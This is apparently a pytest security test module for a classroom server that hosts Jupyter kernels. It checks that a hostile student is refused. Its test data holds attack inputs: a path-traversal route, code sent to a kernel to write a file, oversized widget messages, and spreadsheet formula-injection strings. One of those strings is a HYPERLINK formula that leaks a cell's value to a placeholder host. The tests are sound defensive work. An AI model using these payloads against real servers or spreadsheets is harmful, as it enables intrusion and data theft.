"""One hostile student against a served class (issue 35 §1): a real LAN server, driven over
HTTP and the kernel websocket as a browser (or a script pretending to be one) would.

- Only the exact join and teacher routes are open without the class cookie.
- A seat or page address the join page does not make is refused (400) before a kernel starts.
- The access log holds no token, class code or session.
- One student has one kernel (a new load replaces the old one), one address a few.
- A kernel answers its own student only; a browser's messages are small, few and widget
  messages only, and nothing the kernel writes to stderr or raises reaches the browser.
- A kernel held open without input is culled, and the page is told why.
- Visitor text comes out of the teacher's downloads as text, never a formula.
"""

from __future__ import annotations

import asyncio
import http.client
import io
import json
import re
import time
import uuid
from urllib.parse import parse_qs, quote, urlsplit

import pytest

import servers

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


def _get(srv, path, cookie=None):
    con = http.client.HTTPConnection(srv["ip"], srv["port"], timeout=120)
    headers = {"Host": f"{srv['ip']}:{srv['port']}"}
    if cookie:
        headers["Cookie"] = cookie
    con.request("GET", path, headers=headers)
    r = con.getresponse()
    out = (r.status, {k.lower(): v for k, v in r.getheaders()}, r.read())
    con.close()
    return out


def _join(srv, name, seat=""):
    """(cookie, page path) of a student who joined with the class code."""
    status, headers, _ = _get(srv, f"/join?code={srv['code']}&name={quote(name)}&seat={seat}")
    assert status == 302, status
    return headers["set-cookie"].split(";")[0], headers["location"]


def _kernel_processes(srv):
    return servers.kernel_processes(srv["proc"].pid)


def _wait_kernels(srv, n, timeout=60):
    deadline = time.time() + timeout
    while len(_kernel_processes(srv)) != n and time.time() < deadline:
        time.sleep(0.5)
    return len(_kernel_processes(srv))


_KID = re.compile(rb'"kernelId"\s*:\s*"([0-9a-f-]{36})"')


def _kernel_id(body: bytes) -> str:
    m = _KID.search(body)
    assert m, "the page names no kernel"
    return m.group(1).decode()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    with servers.lan_class(tmp_path_factory.mktemp("guard"), seed=5, questions=3,
                           lang="en", max_kernels=6, kernels_per_address=2) as srv:
        yield srv


# ------------------------------------------------------------------ routes, seats, addresses

def test_only_the_exact_open_routes_skip_the_class_cookie(guarded):
    before = len(_kernel_processes(guarded))
    for path in ("/teacher/x", "/teacher/data/x", "/teacher/..%2Fclassroom",
                 "/teacher/api/kernels", "/teacherx", "/join/x", "/teacher/results.csv/x"):
        status, headers, body = _get(guarded, path)
        assert (status == 302 and headers["location"] == "/join") or \
            (status == 403 and (b"join the class" in body or b"teacher" in body.lower())), \
            (path, status, body[:200])
    assert len(_kernel_processes(guarded)) == before


@pytest.mark.parametrize("seat", ["²", "①", "٣", "1e3", "0", "1000", "-1", "7x", "１"])
def test_join_refuses_a_seat_that_is_not_a_number(guarded, seat):
    status, headers, body = _get(guarded, f"/join?code={guarded['code']}&name=Eve&"
                                          f"seat={quote(seat)}")
    assert status == 400 and b"<form" in body and "set-cookie" not in headers


def test_join_takes_a_seat_number(guarded):
    status, headers, _ = _get(guarded, f"/join?code={guarded['code']}&name=Eve&seat=%207%20")
    assert status == 302 and parse_qs(urlsplit(headers["location"]).query)["seat"] == ["7"]


def test_a_crafted_page_address_is_refused_before_a_kernel_starts(guarded):
    cookie, page = _join(guarded, "Crafty")
    session = parse_qs(urlsplit(page).query)["session"][0]
    before = len(_kernel_processes(guarded))
    for query in (f"name=A&seat=%C2%B2&session={session}",          # ²
                  f"name=A&seat=%E2%91%A0&session={session}",       # ①
                  "&".join(f"f{i}=1" for i in range(11)),
                  f"name=A&session={session}&extra=1",
                  f"name=A&name=B&session={session}",
                  "name=A&session=short",
                  f"name=%FF&session={session}",
                  f"session={session}"):
        status, _, body = _get(guarded, "/?" + query, cookie=cookie)
        assert status == 400, (query, status)
        assert b"Traceback" not in body and b"kernelId" not in body
    assert len(_kernel_processes(guarded)) == before


def test_the_log_holds_no_token_code_or_session(guarded):
    near = guarded["token"][:-1] + ("A" if guarded["token"][-1] != "A" else "B")
    assert _get(guarded, "/teacher?token=" + near)[0] == 403
    assert _get(guarded, "/teacher?token=" + guarded["token"])[0] == 302
    _, page = _join(guarded, "Logged")
    session = parse_qs(urlsplit(page).query)["session"][0]
    time.sleep(1.0)                              # the log is written after each request
    log = guarded["log"].read_text(errors="replace")
    for secret in (near, guarded["token"], guarded["code"], guarded["code"].replace("-", ""),
                   session):
        assert secret not in log.split("Teacher's page:")[-1].split("\n", 1)[-1], secret
    # still useful: the refused login is there, by path and status
    assert re.search(r"403 GET /teacher\?token=", log)


# ------------------------------------------------------------------ kernels per student, address

def test_one_student_one_kernel_and_an_address_a_few(guarded):
    assert _wait_kernels(guarded, 0) == 0
    a, page_a = _join(guarded, "Ann")
    ids = []
    for _ in range(3):                           # three loads by one student
        status, _, body = _get(guarded, page_a, cookie=a)
        assert status == 200
        ids.append(_kernel_id(body))
    assert len(set(ids)) == 3
    assert _wait_kernels(guarded, 1) == 1        # each load replaced the one before
    b, page_b = _join(guarded, "Ben")
    assert _get(guarded, page_b, cookie=b)[0] == 200
    assert _wait_kernels(guarded, 2) == 2
    c, page_c = _join(guarded, "Cai")
    status, headers, body = _get(guarded, page_c, cookie=c)
    assert status == 429 and b"Too many" in body and "retry-after" in headers
    assert len(_kernel_processes(guarded)) == 2
    # a student of this address reloading is served (it replaces their own kernel)
    status, _, body = _get(guarded, page_a, cookie=a)
    assert status == 200
    guarded["ann"] = (a, _kernel_id(body))
    guarded["ben"] = (b, None)


# ------------------------------------------------------------------ the kernel websocket

async def _ws(srv, kid, cookie, *, max_size=None):
    from tornado.httpclient import HTTPRequest
    from tornado.websocket import websocket_connect

    url = (f"ws://{srv['ip']}:{srv['port']}/api/kernels/{kid}/channels"
           f"?session_id={uuid.uuid4().hex}")
    req = HTTPRequest(url, headers={"Cookie": cookie, "Host": f"{srv['ip']}:{srv['port']}"},
                      request_timeout=60)
    return await websocket_connect(req)


def _msg(msg_type, content, channel="shell", metadata=None):
    return json.dumps({"header": {"msg_id": uuid.uuid4().hex, "username": "x",
                                  "session": uuid.uuid4().hex, "msg_type": msg_type,
                                  "version": "5.3", "date": "2026-01-01T00:00:00Z"},
                       "parent_header": {}, "metadata": metadata or {}, "content": content,
                       "channel": channel, "buffers": []})


async def _collect(ws, seconds, until=None):
    """Every message the kernel sends within ``seconds`` (or until the socket closes, or a
    message for which ``until`` is true)."""
    out = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (out and until and until(out[-1])):
        try:
            m = await asyncio.wait_for(ws.read_message(), deadline - time.monotonic())
        except asyncio.TimeoutError:
            break
        if m is None:
            break
        out.append(json.loads(m) if isinstance(m, str) else {"binary": len(m)})
    return out


def test_a_kernel_answers_its_own_student_only(guarded):
    if "ann" not in guarded:
        pytest.skip("needs the kernel of test_one_student_one_kernel_and_an_address_a_few")
    (a, kid), (b, _) = guarded["ann"], guarded["ben"]
    for path in (f"/api/kernels/{kid}", f"/api/kernels/{kid}/channels"):
        status, _, body = _get(guarded, path, cookie=b)
        assert status == 403 and b"not your page" in body
    assert _get(guarded, f"/api/kernels/{kid}", cookie=a)[0] == 200

    async def other():
        with pytest.raises(Exception, match="403"):
            await _ws(guarded, kid, b)
    asyncio.run(other())


def test_a_browser_sends_widget_messages_only_and_sees_no_traceback(guarded):
    if "ann" not in guarded:
        pytest.skip("needs the kernel of test_one_student_one_kernel_and_an_address_a_few")
    a, kid = guarded["ann"]

    async def run():
        ws = await _ws(guarded, kid, a)
        # code is never run
        ws.write_message(_msg("execute_request", {
            "code": "open('/tmp/mjkit-pwned', 'w')", "silent": False, "store_history": False,
            "user_expressions": {}, "allow_stdin": False, "stop_on_error": True}))
        # the widgets' states, as the page's widget manager asks for them
        control = uuid.uuid4().hex
        ws.write_message(_msg("comm_open", {"comm_id": control,
                                            "target_name": "jupyter.widget.control",
                                            "data": {}}, metadata={"version": "1.0.0"}))
        ws.write_message(_msg("comm_msg", {"comm_id": control,
                                           "data": {"method": "request_states"}}))
        got = await _collect(ws, 60, until=lambda m: "update_states" in json.dumps(m))
        states = {}
        for m in got:
            data = m.get("content", {}).get("data", {}) if isinstance(m, dict) else {}
            if isinstance(data, dict) and data.get("method") == "update_states":
                states.update(data.get("states", {}))
        ints = [k for k, v in states.items() if v.get("model_name") == "IntTextModel"]
        layouts = [k for k, v in states.items() if v.get("model_name") == "LayoutModel"]
        assert ints and layouts, "the quiz's widgets were not found"
        # hostile updates: a word for a number, a big text for a layout
        for comm in ints:
            ws.write_message(_msg("comm_msg", {"comm_id": comm, "data": {
                "method": "update", "state": {"value": "abc"}, "buffer_paths": []}}))
        ws.write_message(_msg("comm_msg", {"comm_id": layouts[0], "data": {
            "method": "update", "state": {"width": "x" * 30000}, "buffer_paths": []}}))
        after = await _collect(ws, 4)
        # too big a message: the socket is closed
        ws.write_message(_msg("comm_msg", {"comm_id": layouts[0], "data": {
            "method": "update", "state": {"width": "x" * 100_000}, "buffer_paths": []}}))
        closed = await _collect(ws, 10)
        return got + after, closed, ws.close_code

    seen, closed, code = asyncio.run(run())
    text = json.dumps(seen)
    assert not [m for m in seen if m.get("msg_type") == "execute_reply"
                or m.get("header", {}).get("msg_type") in ("execute_reply", "error")]
    for leak in ("Traceback", "TraitError", "site-packages", "/work/", "File \\\""):
        assert leak not in text, leak
    assert not [m for m in seen if m.get("header", {}).get("msg_type") == "stream"
                and m["content"].get("name") == "stderr"]
    import os

    assert not os.path.exists("/tmp/mjkit-pwned")
    assert code == 1009 and not closed


def test_a_kernel_held_open_without_input_is_culled_and_the_page_told(tmp_path):
    with servers.lan_class(tmp_path, seed=1, questions=2, lang="en", idle_timeout=10,
                           input_idle_timeout=10) as srv:
        cookie, page = _join(srv, "Idle")
        status, _, body = _get(srv, page, cookie=cookie)
        assert status == 200
        kid = _kernel_id(body)
        # the page tells why the server closed its socket
        assert b"mjkit-notice" in body and b"4003" in body

        async def hold():
            ws = await _ws(srv, kid, cookie)
            got = await _collect(ws, 60)       # send nothing; wait for the culler
            return got, ws.close_code, ws.close_reason

        _, code, reason = asyncio.run(hold())
        assert (code, reason) == (4003, "idle")
        assert _wait_kernels(srv, 0, 30) == 0
        assert "no message from its browser" in srv["log"].read_text(errors="replace")


# ------------------------------------------------------------------ the teacher's downloads

def test_visitor_text_leaves_the_downloads_as_text(guarded):
    """Names and answers that read as formulas are recorded (as a student's kernel records
    them) and downloaded from the teacher's page: every cell stays text."""
    import openpyxl

    from mjkit.app.classdb import ClassDB

    hostile = ['=1+2', '=HYPERLINK("http://x.invalid/?"&B2,"a")', "@SUM(A1)", "+1",
               "-1+1", "＝1+2"]
    (path,) = guarded["results"].glob("*.sqlite")
    with ClassDB(path) as db:
        for k, name in enumerate(hostile):
            sid = db.join(f"hostile-session-{k:08d}", name)
            db.record(sid, 0, "total", "123m456m789m123p5p 5p", "12", name, False)
    _, headers, _ = _get(guarded, "/teacher?token=" + guarded["token"])
    teacher = headers["set-cookie"].split(";")[0]
    status, _, body = _get(guarded, "/teacher/results.xlsx", cookie=teacher)
    assert status == 200
    wb = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                texts.append(str(cell.value))
    assert any("HYPERLINK" in t for t in texts)
    status, _, body = _get(guarded, "/teacher/results.csv", cookie=teacher)
    assert status == 200
    import csv

    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert any("HYPERLINK" in c for r in rows for c in r)
    for r in rows:
        for cell in r:
            assert not cell.startswith(("=", "@", "+", "-", "\t", "\r")), r


def test_a_damaged_database_gives_the_teacher_a_message_never_a_500(guarded):
    """Last in this module: it damages the class database under the running server."""
    import sqlite3

    (path,) = guarded["results"].glob("*.sqlite")
    _, headers, _ = _get(guarded, "/teacher?token=" + guarded["token"])
    teacher = headers["set-cookie"].split(";")[0]
    assert _get(guarded, "/teacher/data", cookie=teacher)[0] == 200
    con = sqlite3.connect(path)
    con.execute("UPDATE students SET name = CAST(x'ff41' AS TEXT)")
    con.commit()
    con.close()
    status, headers, body = _get(guarded, "/teacher/data", cookie=teacher)
    assert status == 503 and "json" in headers["content-type"]
    assert "class database cannot be read" in json.loads(body)["error"]
    for what in ("/teacher/results.csv", "/teacher/results.xlsx"):
        status, _, body = _get(guarded, what, cookie=teacher)
        assert status == 503 and b"class database cannot be read" in body
        assert b"Traceback" not in body
    assert _get(guarded, "/teacher", cookie=teacher)[0] == 200   # the page itself still opens
